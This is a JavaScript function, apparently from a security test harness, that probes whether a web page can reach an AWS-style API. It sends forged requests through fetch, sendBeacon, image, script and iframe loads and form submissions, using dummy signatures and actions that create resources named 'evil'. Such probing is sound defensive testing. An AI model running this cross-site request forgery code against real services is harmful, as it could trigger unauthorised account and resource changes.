// Sends requests in every way in which a page can, with and without the other server's permission (CORS).
// Returns what the page could read.
async ({address, path, service, action, target}) => {
  const scope = `a/20260101/us-east-1/${service}/aws4_request`;
  const signing = new URLSearchParams({"X-Amz-Algorithm": "AWS4-HMAC-SHA256",
    "X-Amz-Date": "20260101T000000Z", "X-Amz-Credential": scope, "X-Amz-Expires": "600",
    "X-Amz-SignedHeaders": "host", "X-Amz-Signature": "0", "Version": "2010-03-31"});
  const parameters = new URLSearchParams({"Action": action, "Name": "evil", "UserName": "evil",
    "QueueName": "evil", "KeyName": "evil"});
  const plain = new URL(path, address), signed = new URL(plain), acting = new URL(plain);
  for (const [name, value] of signing) signed.searchParams.set(name, value);
  for (const [name, value] of [...signing, ...parameters]) acting.searchParams.set(name, value);
  const read = [];
  const ask = async (url, options) => {
    try {
      const answer = await fetch(url, {body: options.method ? "EVIL" : undefined, ...options});
      if (answer.type !== "opaque") read.push(`${options.method} ${url}: ${answer.status}`);
    } catch (error) {}
  };
  const load = (kind, set) => new Promise((resolve) => {
    const element = document.createElement(kind);
    element.onload = element.onerror = () => { element.remove(); resolve(); };
    set(element);
    document.body.append(element);
  });
  const submit = (url, method, type, fields) => load("iframe", (frame) => {
    frame.name = `frame${Math.random()}`;
    const form = document.createElement("form");
    Object.assign(form, {action: url, method: method, enctype: type, target: frame.name});
    for (const [name, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, {name: name, value: value});
      form.append(input);
    }
    document.body.append(form);
    setTimeout(() => form.submit());
  });
  const headers = {"X-Amz-Target": target + action, "Content-Type": "application/x-amz-json-1.1",
    "Authorization": `AWS4-HMAC-SHA256 Credential=${scope}, SignedHeaders=host, Signature=0`};
  const sent = [];
  for (const url of [plain, acting]) {
    for (const mode of ["cors", "no-cors"]) {
      sent.push(ask(url, {mode: mode}), ask(url, {mode: mode, method: "POST"}));
      sent.push(ask(url, {mode: mode, method: "POST", body: parameters}));
    }
    for (const method of ["POST", "PUT", "DELETE"]) sent.push(ask(url, {method: method, headers: headers}));
    navigator.sendBeacon(url, parameters);
    sent.push(load("img", (image) => { image.src = url; }));
    sent.push(load("script", (script) => { script.src = url; }));
  }
  sent.push(load("iframe", (frame) => { frame.src = acting; }));
  sent.push(submit(signed, "POST", "application/x-www-form-urlencoded", Object.fromEntries(parameters)));
  sent.push(submit(signed, "POST", "text/plain", {"{\"a": "\": 1}"}));
  sent.push(submit(plain, "POST", "multipart/form-data", {"key": "object", "file": "EVIL"}));
  sent.push(submit(plain, "GET", "", Object.fromEntries([...signing, ...parameters])));
  await Promise.all(sent);
  return read;
}
